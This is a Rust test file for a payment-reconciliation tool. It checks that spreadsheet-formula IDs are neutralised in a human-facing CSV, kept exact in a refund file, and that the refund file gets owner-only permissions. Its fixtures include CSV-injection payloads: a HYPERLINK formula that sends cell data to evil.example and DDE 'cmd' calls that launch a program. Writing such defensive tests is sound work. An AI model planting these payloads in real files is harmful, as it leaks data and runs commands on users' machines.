//! Outputs safe to open (guarantee 6): ids that look like spreadsheet
//! formulas reach discrepancies.csv, the CSV people open, neutralised (a
//! leading `'`), amounts untouched; refunds.csv, the refund job's machine
//! contract, holds every value exactly as issued (issue 13); refunds.csv is
//! owner-only (0600) unless the config says otherwise, also when it
//! replaces an earlier file.

use crate::util::{Workdir, parse_csv};

const OH: &str = "order_id,payment_id,channel_order_id,channel,amount,currency,order_status,payment_status,created_at,expires_at,closed_at,paid_at\n";
const SH: &str =
    "channel,channel_txn_id,channel_order_id,kind,amount,fee,currency,transacted_at,refund_id\n";

/// Texts a spreadsheet would evaluate, as CSV fields.
const ORDER: &str = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"";
const PAYMENT: &str = "+cmd|' /C calc'!A0";
const TXN: &str = "-2+3";
const CHANNEL_ORDER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

fn formula_day(work: &Workdir) -> Vec<String> {
    let orders = work.write(
        "orders.csv",
        &format!(
            "{OH}{ORDER},P1,C1,wechat,10.00,CNY,PAID,SUCCESS,2026-11-21 10:00:00,,,2026-11-21 10:00:05\n\
             {ORDER},{PAYMENT},{CHANNEL_ORDER},wechat,10.00,CNY,PAID,FAILED,2026-11-21 10:01:00,,,\n"
        ),
    );
    let bill = work.write(
        "wechat-2026-11-21.csv",
        &format!(
            "{SH}wechat,T1,C1,PAYMENT,10.00,,CNY,2026-11-21 10:00:05,\n\
             wechat,{TXN},{CHANNEL_ORDER},PAYMENT,10.00,,CNY,2026-11-21 10:01:05,\n\
             wechat,=1+1,=0+0,PAYMENT,3.00,,CNY,2026-11-21 11:00:00,\n"
        ),
    );
    let next = work.write("wechat-2026-11-22.csv", SH);
    vec![
        "--orders".into(),
        orders.display().to_string(),
        "--settlement".into(),
        bill.display().to_string(),
        "--settlement".into(),
        next.display().to_string(),
        "--date".into(),
        "2026-11-21".into(),
    ]
}

#[test]
fn formula_looking_ids_are_neutralised_for_people_and_exact_for_the_refund_job() {
    let work = Workdir::new();
    let args = formula_day(&work);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    work.run("out", &args).assert().success();
    for file in ["discrepancies.csv"] {
        let (header, rows) = parse_csv(&work.read(&format!("out/{file}")));
        assert!(!rows.is_empty(), "{file} has rows");
        for row in &rows {
            for (column, field) in header.iter().zip(row) {
                assert!(
                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file} column {column}: {field:?} would be evaluated"
                );
            }
        }
    }
    let (_, refunds) = parse_csv(&work.read("out/refunds.csv"));
    let order_id = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    assert_eq!(
        refunds[0][..9],
        [
            refunds[0][0].clone(),
            "wechat".to_string(),
            TXN.to_string(),
            CHANNEL_ORDER.to_string(),
            order_id.to_string(),
            PAYMENT.to_string(),
            "10.00".to_string(),
            "CNY".to_string(),
            "DUPLICATE_PAYMENT".to_string(),
        ],
        "refunds.csv is a machine contract: the values exactly as issued"
    );
    let report = work.read("out/discrepancies.csv");
    for text in [
        format!("'{PAYMENT}"),
        format!("'{CHANNEL_ORDER}"),
        "'=1+1".into(),
    ] {
        assert!(report.contains(&text), "{text} in {report}");
    }
}

#[test]
#[cfg(unix)]
fn refunds_file_mode_is_owner_only_or_as_configured() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |work: &Workdir, out: &str| {
        std::fs::metadata(work.path(&format!("{out}/refunds.csv")))
            .unwrap()
            .permissions()
            .mode()
            & 0o777
    };
    let work = Workdir::new();
    let args = formula_day(&work);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    // An earlier, world-readable refunds.csv in the folder is replaced by
    // an owner-only one.
    let old = work.write("out/refunds.csv", "stale\n");
    std::fs::set_permissions(&old, std::fs::Permissions::from_mode(0o644)).unwrap();
    work.run("out", &args).assert().success();
    assert_eq!(mode(&work, "out"), 0o600);
    assert_eq!(
        std::fs::metadata(work.path("out/discrepancies.csv"))
            .unwrap()
            .permissions()
            .mode()
            & 0o077,
        0o044 & !umask(),
        "the report is readable as usual"
    );
    let config = work.write("payrecon.toml", "refund_file_mode = \"0640\"\n");
    let mut with_config = vec!["--config", config.to_str().unwrap()];
    with_config.extend(&args);
    work.run("configured", &with_config).assert().success();
    assert_eq!(mode(&work, "configured"), 0o640 & !umask());
}

/// This process's umask, from /proc (0o022 where there is none).
#[cfg(unix)]
fn umask() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("Umask:"))
        .and_then(|v| u32::from_str_radix(v.trim(), 8).ok())
        .unwrap_or(0o022)
}
